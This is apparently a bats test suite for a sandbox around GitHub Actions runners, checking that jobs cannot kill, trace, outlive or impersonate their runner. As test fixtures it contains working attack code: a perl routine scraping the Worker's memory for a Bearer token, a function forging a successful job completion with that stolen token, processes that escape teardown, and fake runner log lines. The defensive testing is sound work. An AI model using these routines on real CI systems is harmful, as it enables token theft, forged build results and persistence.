#!/usr/bin/env bats
# Attacks by a job on its runner: signals, the memory of the Worker, what it leaves running. Made as job_attack_helpers.bash says: on two sides.

load job_attack_helpers

# --- 4

# The hub knows the conclusion before the launcher has written its report.
two_reports() {
	[ "$(find "$STATE/reports" -name '*.json' | wc -l)" = 2 ]
}

@test "4: kill -9 -1 ends the sandbox and nothing else, and the job is reported" {
	local id canary
	sleep 300 3>&- &
	canary=$!
	both_start
	id=$(job_in plain 'kill -9 -1')
	until_true 10 not_running "$PLAIN_PID"
	# Nobody is left who could report it.
	[ "$(job "$id" in_progress | jq -r .status)" = in_progress ]
	id=$(job_in inside 'kill -9 -1')
	[ "$(conclusion "$id")" = failure ]
	job "$id" | jq -e '[.annotations[] | tostring] | join(" ") | contains("Runner.Worker was killed by signal 9")'
	# The same runner takes the next.
	[ "$(conclusion "$(job_in inside 'true')")" = success ]
	[ "$(curl -sf "$URL/_hub/runners" | jq '[.runners[] | select(.name == "inside")] | length')" = 1 ]
	until_true 10 two_reports
	kill "$canary"
	leave
}

@test "4: a job that has stopped everything can be canceled, and the runner goes on" {
	local id
	echo STANDIN_KILL_FLOOR_SECONDS=1 >"$W/dist/.env"
	start_inside ACCESS_TOKEN="$PAT"
	id=$(job_in inside 'kill -STOP -1; kill -STOP $$')
	job "$id" in_progress >/dev/null
	until_true 20 worker_is_stopped
	curl -sf -X POST "$URL/_hub/jobs/$id/cancel"
	# The Listener says nothing of a job whose Worker it has killed: GitHub notices when the lock runs out.
	until_true 20 said "the Listener abandoned it"
	curl -sf -X POST "$URL/_hub/jobs/$id/lose"
	[ "$(conclusion "$(job_in inside 'true')")" = success ]
	leave
}

worker_is_stopped() {
	local pid
	pid=$(ours | grep 'Runner.Worker spawnclient 3 4' | grep -v 'cofferdam run' | sed 's/ .*//')
	[ -n "$pid" ] && grep -q '^State:.T' "/proc/$pid/status"
}

# --- 5, 13

dump_worker() {
	local url=$1 way
	shift
	fetch "$url" dump
	for way; do
		try "the Worker's $way" "$RUNNER_TEMP/dump" of "$way" $PPID
	done
}

# A copy of the Worker that was traced before it was one.
trace_worker() {
	local url=$1 worker=$2 way
	shift 2
	fetch "$url" traced
	for way; do
		try "a traced Worker's memory by $way" "$RUNNER_TEMP/traced" "$way" "$worker"
	done
}

@test "5: a Worker that a step starts and traces keeps its memory closed, too" {
	publish traced
	both_start
	inside=$(job_in inside "$(step fetch trace_worker -- "$URL" "$W/dist/bin/Runner.Worker" peek poke vm_readv vm_writev mem race)")
	plain=$(job_in plain "$(step fetch trace_worker -- "$URL" "$W/plain/bin/Runner.Worker" peek poke vm_readv vm_writev mem race)")
	done_in inside "$inside"
	done_in plain "$plain"
	blocked
	run -1 grep "PTRACE_TRACEME" "$W/inside.log"
	# A step may trace what is its own.
	id=$(job_in inside "$(step fetch trace_own -- "$URL" peek vm_readv)")
	done_in inside "$id"
	[ "$(got inside | wc -l)" = 2 ]
	leave
}

trace_own() {
	local url=$1 way
	shift
	fetch "$url" traced
	for way; do
		try "its own by $way" "$RUNNER_TEMP/traced" "$way" /bin/cat
	done
}

# What the Worker holds of the job message, by its memory, as was done to tj-actions.
steal_token() {
	perl -e 'open M, "/proc/$ARGV[0]/maps" or die "maps: $!\n"; open D, "/proc/$ARGV[0]/mem" or die "mem: $!\n";
		while (<M>) {
			next unless /^(\w+)-(\w+) rw/;
			my ($from, $len) = (hex $1, hex($2) - hex $1);
			sysseek D, $from, 0; sysread D, my $data, $len or next;
			if ($data =~ /Bearer (eyJ[\w-]+\.[\w-]+\.[\w-]+)/) { print $1; exit }
		}
		die "no token\n"' $PPID
}

# A failing job completes itself as a success, and takes away who would know better.
fake_success() {
	local url=$1 token scope
	token=$(steal_token) || true
	scope=$(cut -d. -f2 <<<"$token" | basenc --base64url -d -i 2>/dev/null | grep -o 'Actions.Results:[0-9a-f:-]*')
	curl -sf -X POST "$url/run/completejob" -H "Authorization: Bearer $token" -d "$(
		IFS=: read -r _ plan job <<<"$scope"
		printf '{"planId": "%s", "jobId": "%s", "conclusion": "succeeded", "outputs": {}, "stepResults": []}' "$plan" "$job"
	)"
	kill -KILL $PPID
	exit 100
}

@test "5, 13: the Worker's memory stays closed, and a job that kills it fails" {
	local ways=(maps auxv syscall exe root fd ns kcmp mem environ ptrace process_vm_readv pidfd_getfd)
	if [ "$(cat /proc/sys/kernel/yama/ptrace_scope 2>/dev/null || echo 0)" != 0 ]; then
		skip "kernel.yama.ptrace_scope protects the Worker without us too"
	fi
	publish dump
	both_start
	both fetch dump_worker -- "$URL" "${ways[@]}"
	blocked
	# By permission, not by chance.
	run -1 bash -c 'grep "^refused: the Worker.s" "$1" | grep -v -e EACCES -e EPERM' - "$W/inside.log"
	both steal_token fake_success -- "$URL"
	[ "$(conclusion "$plain")" = success ]
	[ "$(conclusion "$inside")" = failure ]
	[ "$(conclusion "$(job_in inside 'exit 100')")" = failure ]
	leave
}

# --- 6, 44

# What outlives a job that has ended: each process has MARK in its command line and heeds nothing. The last one holds the
# output of the step and prints what others might take for words of the runner.
outlive() {
	local mark=$1 name
	export RUNNER_TRACKING_ID=0
	trap '' HUP INT TERM PIPE
	setsid nohup bash -c 'exec -a "$0" sleep 120' "$mark-session" >/dev/null 2>&1 </dev/null &
	(setsid bash -c 'bash -c "exec -a \"\$0\" sleep 120" "$0" &' "$mark-double-fork" >/dev/null 2>&1 </dev/null &)
	perl -e '$SIG{$_} = "IGNORE" for qw(HUP INT TERM CHLD); $0 = shift; my $end = time + 120;
		while (time < $end) { setpgrp; exit if fork; select undef, undef, undef, 0.01 }' \
		"$mark-refork" >/dev/null 2>&1 </dev/null &
	setsid bash -c 'while :; do
			printf "%s\n" "[WORKER 1] ##[error]" "##[error]spoof" "Listening for Jobs" \
				"2026-01-01 00:00:00Z: Running job: spoof" || :
			read -rt 0.02 <> <(:) || :
		done 2>/dev/null' "$mark-flood" &
	for name in session double-fork refork flood; do
		until grep -qsaF -f <(echo "$mark-$name") /proc/[0-9]*/cmdline; do :; done
	done
}

# The same into the outputs of everybody else who can be found.
speak_as_listener() {
	local out found=
	for out in /proc/[0-9]*/fd/[12]; do
		[ "$(cat "${out%/fd/*}/comm" 2>/dev/null)" = Runner.Listener ] || continue
		! echo "2026-01-01 00:00:00Z: Running job: spoof" 2>/dev/null >"$out" || found=1
	done
	try "the Listener's output" test -n "$found"
}

outlive_and_speak() {
	outlive "$1"
	speak_as_listener
}

# outlivers MARK: the names of those that live. The one that forks on is often between two numbers at a look, the more so the busier
# the machine is.
outlivers() {
	local name i
	for name in session double-fork refork flood; do
		for i in {1..40}; do
			[ "$(alive "$1-$name")" = 0 ] || { echo "$name"; break; }
		done
	done
}

@test "6, 44: what a job leaves running is dead when its runner is free again; what it prints fools nobody" {
	both_start
	inside=$(job_in inside "$(step outlive speak_as_listener outlive_and_speak -- "mark-$$-inside")")
	plain=$(job_in plain "$(step outlive speak_as_listener outlive_and_speak -- "mark-$$-plain")")
	done_in inside "$inside"
	wait_runner idle inside
	[ "$(outlivers "mark-$$-inside")" = "" ]
	done_in plain "$plain"
	wait_runner idle plain
	[ "$(outlivers "mark-$$-plain" | xargs)" = "session double-fork refork flood" ]
	blocked
	grep -q '^2026-01-01 00:00:00Z: Running job: spoof' "$W/plain.out"
	run ! grep -q spoof "$W/out" "$W/err"
	report | jq -e '.residue == [] and .teardown.processes_killed >= 4'
	[ "$(conclusion "$(job_in inside 'true')")" = success ]
	leave
}
